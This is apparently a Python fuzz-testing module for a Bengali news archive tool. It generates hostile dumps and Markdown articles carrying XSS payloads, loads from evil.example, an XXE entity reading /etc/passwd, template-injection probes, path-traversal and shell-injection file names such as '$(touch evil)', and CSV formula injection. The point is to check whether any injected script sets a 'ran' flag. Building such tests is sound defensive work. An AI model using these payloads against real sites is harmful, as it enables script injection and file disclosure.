"""What an archive is attacked with: lists of attacks, and hostile dumps and articles made from them at random.

Each script would set `ran` on the window, so that a browser can tell whether one ran.
"""

import html
import random
from pathlib import Path

from bench.fuzz import mutated
from mohafez import articles

RUN = "top.ran=parent.ran=window.ran=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}//",
    f"<img src=x onerror={RUN}>",
    f"<img src=//evil.example/pixel.png onload='{RUN}'>",
    f"<svg onload={RUN}><svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script><use href='//evil.example/x.svg#x'/></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src=//evil.example></iframe>",
    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video>",
    f'"><input autofocus onfocus={RUN}>',
    f"' autofocus onfocus='{RUN}' x='",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f"<a href=javascript:{RUN}>x</a><a href='data:text/html,<script>{RUN}</script>'>y</a>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/y.css'; * { background: url(//evil.example/z) }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><object data=//evil.example/o></object>",
    "<form action=//evil.example/><button formaction=//evil.example/>x</button></form>",
    "<template><slot></template></main></body></html><plaintext>",
    "<!-- --!> <!--[if IE]> ]]> <![CDATA[ <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;script&gt;ran=1&lt;/script&gt; &#60;img src=x onerror=ran=1&#62; &#x3c;svg/onload=ran=1&#x3e;",
    "&#99999999; &#0; &; &#xD83D; &amp;lt;script&amp;gt; &NotAnEntity; &#x;",
    "<table><td><div></p></td><ul></b></i></table></article></div></div></div></section></footer>",
]
MARKDOWN = [
    f"[x](javascript:{RUN}) [y](JaVaScRiPt:{RUN}) [z](java&#10;script:{RUN}) [w]( javascript:{RUN})",
    f"<javascript:{RUN}> <https://evil.example/'onmouseover='{RUN}>",
    f"![x](//evil.example/x.png) ![y](https://evil.example/y.png 'onload={RUN}') ![z](x\" onerror=\"{RUN})",
    f"[x]: javascript:{RUN}\n\n[x] [x][] [y][x]",
    f"[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==) [y](vbscript:{RUN}) [z](file:///etc/passwd)",
    f'[x](https://evil.example/"onclick="{RUN}) [y](<https://evil.example/ onclick={RUN}>)',
    "[x](//evil.example/) [y](\\\\evil.example/) [z](/\\evil.example/) [w](../../../../etc/passwd)",
    "# [[[[[[[[[[[[[[[[[[[[[[[[ ***___***___ ``` ~~~ <<<>>> ((((( )))))",
    "> > > > > > > > > > > > - - - - - - - * * * 1. 1. 1. 1.",
    f"``` {{.x onclick={RUN}}}\ncode\n```\n\n# x {{: onclick={RUN} }}",
    "| a | b |\n|---|---|\n| <script>ran=1</script> | x |\n\n[^1]: x\n\n*[x]: y\n\n!!! note\n    x",
    "\\<script>ran=1\\</script> \\[x\\](javascript:ran=1) &lt;img src=x onerror=ran=1&gt;",
]
TEMPLATES = [
    "{{ 7*7 }} {% raw %} {# x #} {{ ''.__class__.__mro__ }} {{ config }} {% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{{x}}} %{x} {0.__class__} %(x)s %s %n",
    "{filename}/etc/passwd {static}/etc/passwd {attach}../../x |filename|x",
    "[x]({filename}/pages/about.md) [y]({static}/../x) {tag}x {index}",
    "[[x]] [TOC] {% endraw %}{% extends 'x' %}{{ loop.cycle() }}",
]
PATHS = [
    "../../../../tmp/evil",
    "..\\..\\evil",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\evil",
    "con",
    "nul.txt",
    ".",
    "..",
    "~",
    "a/../../b",
    "%2e%2e%2f",
    "x\x00.md",
    "index.html",
    ".git/config",
    "-rf",
    "$(touch evil)",
    "`touch evil`",
    "; touch evil",
    "a" * 300,
]
FIELDS = [
    "---",
    "---\nslug: ../../evil\n---",
    "title: x\ndate: 2020-01-01",
    "slug: evil",
    "status: published",
    "Title : x",
    "save_as: ../evil.html",
    "url: javascript:ran=1",
    "template: /etc/passwd",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)|cmd",
    "+1",
    "-1",
    "\t=1",
    '","x"\n"',
    "]]>",
    "</entry><entry>",
]
UNSEEN = [
    "\u202eলেখা\u202c",
    "\u2066\u2067\u2068x\u2069",
    "\u200b\u200c\u200d\ufeff\u00ad\u2060",
    "ক" + "\u0301" * 200,
    "\u2028\u2029\x85\x0b\x0c",
    "\x00\x01\x07\x08\x1b[31m\x7f\x9b",
    "\ufffe\uffff\ufdd0\U0001fffe",
    "\ue000\uf8ff\U000f0000",
    "😀👨‍👩‍👧‍👦🏳️‍🌈",
    "খ" * 2_000,
    "ﷺ﷽" * 50,
    "ক\u200b\u200d" + "ل" * 400,
    "ক&#8203;&zwnj;" + "ﷺ﷽" * 50,
    "ক&ZeroWidthSpace;&shy;&#x202e;&rlm;🏴\U000e0067\U000e007f❤\ufe0f",
    "漢字 עברית العربية ไทย",
    "্" * 40,
    "ৎ্‌ক‍্‌ষ",
    "ı İ ſ K Å ﬁ ǆ",
    "١٢٣ ১২৩ １２３ ⅷ",
    "<\u200bscript>ran=1</script>",
    "＜script＞ran=1＜/script＞",
    "\u0660\u09e6" * 30,
]
ATTACKS = [*MARKUP, *MARKDOWN, *TEMPLATES, *PATHS, *FIELDS, *UNSEEN]
PLACES = ("আলোকপুর", "বেতকান্দা", "চন্দনগাঁও", "দীঘলহাট", "এলাচিপাড়া", "ফুলঝুরি", "গোলাপগঞ্জ", "হিজলতলা", "ইটাখোলা")
SAID = [
    "{} বাজারে আজ সকালে একটি ছোট সভা হয়। সভায় দোকানিরা নতুন নিয়ম নিয়ে কথা বলেন।",
    "{} বণিক সমিতির সম্পাদক বলেন, নাম যেমনই হোক, পড়া যেন যায়। তাঁর কথায় সবাই সায় দেন।",
    "আগামী মাসে {} গ্রামের সব দোকানে নতুন নাম বসবে। খরচ দেবে সমিতি, এমন সিদ্ধান্ত হয়েছে।",
    "{} থেকে নদীপথে শহরে যেতে এখন লাগে দেড় ঘণ্টা। সেতু হলে লাগবে কুড়ি মিনিট, বলছে জেলা প্রশাসন।",
    "{} বিদ্যালয়ের শিক্ষার্থীরা এবার বই পেয়েছে বছরের প্রথম দিনেই। অভিভাবকেরা খুশি।",
]
KEYS = (*articles.KEYS, "author", "status", "save_as", "url", "template", "lang", "translation", "id")


def attack(rng: random.Random) -> str:
    """Give one attack, or several run together."""
    return "".join(rng.choice(ATTACKS) for _ in range(rng.choice((1, 1, 1, 2, 3))))


def prose(rng: random.Random, paragraphs: int) -> list[str]:
    return [rng.choice(SAID).format(f"{rng.choice(PLACES)} {rng.randrange(10_000)}") for _ in range(paragraphs)]


def hostile_lines(rng: random.Random) -> list[str]:
    """Make the lines of a news page with attacks among and within them."""
    title = f"{rng.choice(PLACES)} {rng.randrange(100_000)} নম্বর ঘাটে নতুন সেতুর কাজ শুরু"
    day = f"প্রকাশ: {rng.randrange(1, 29)} মে ২০{rng.randrange(10, 26)}, ১০:৩০"
    lines = [title, "নিজস্ব প্রতিবেদক", day, *prose(rng, rng.randrange(3, 8))]
    for _ in range(rng.randrange(1, 6)):
        place = rng.randrange(len(lines))
        line, harm = lines[place], attack(rng)
        at = rng.randrange(len(line) + 1)
        lines[place] = rng.choice(
            (f"{line[:at]}{harm}{line[at:]}", f"{harm} {line}", f"{line} {harm}", f"{line}\n\n{harm}")
        )
    return lines


def hostile_dump(rng: random.Random, others: list[bytes]) -> bytes:
    """Make a dump: text, a web page with its markup working or escaped, or a dump mutated."""
    kind = rng.randrange(10)
    if kind == 0:
        return mutated(others, rng)
    lines = hostile_lines(rng)
    if kind < 6:
        data = "\n\n".join(lines)
    else:
        shown = [html.escape(line) if kind < 8 else line for line in lines]
        title, *rest = shown
        data = f"<!doctype html><html><head><title>{title}</title></head><body><h1>{title}</h1>"
        data += "".join(f"<p>{line}</p>\n" for line in rest) + "</body></html>"
    coded = data.encode("utf-8", "surrogatepass")
    return mutated([coded], rng) if rng.random() < 0.1 else coded


def hostile_article(rng: random.Random, number: int) -> str:
    """Make what a hostile contributor's article might be: front matter and Markdown with attacks in them."""
    front = {
        "title": f"{rng.choice(PLACES)} {number}",
        "slug": f"by-hand-{number}",
        "date": f"20{rng.randrange(10, 26)}-05-{rng.randrange(1, 29):02}",
    }
    for key in rng.sample(KEYS, rng.randrange(1, 6)):
        front[key] = rng.choice((attack(rng), f"{front.get(key, 'x')} {attack(rng)}"))
    if rng.random() < 0.8:
        front["slug"] = f"by-hand-{number}"  # most must get past the reader to be shown at all
    if rng.random() < 0.8:
        front = {
            key: value
            for key, value in front.items()
            if key not in ("modified", "aliases") and (key != "date" or len(value) == 10)
        }
    lines = [
        f"{key}: {value}" if rng.random() < 0.03 else f"{key}: {' '.join(value.split())}"
        for key, value in front.items()
    ]
    parts = prose(rng, rng.randrange(1, 4)) + [attack(rng) for _ in range(rng.randrange(1, 5))]
    rng.shuffle(parts)
    return "\n".join(["---", *lines, "---", "", *("\n\n".join(parts).split("\n")), ""])


def write_batch(folder: Path, dumps: int, written: int, seed: int, others: list[bytes]) -> None:
    """Write an archive of hostile dumps, and beside it as many hostile articles, into a folder."""
    rng = random.Random(seed)
    for place in ("dumps", "written"):
        (folder / place).mkdir(parents=True)
    for number in range(dumps):
        data = hostile_dump(rng, others)
        kind = "html" if b"<html" in data[:200] else "txt"
        (folder / "dumps" / f"{number:05}.{kind}").write_bytes(data)
    for number in range(written):
        text = hostile_article(rng, number)
        (folder / "written" / f"{number:05}.md").write_bytes(text.encode("utf-8", "surrogatepass"))
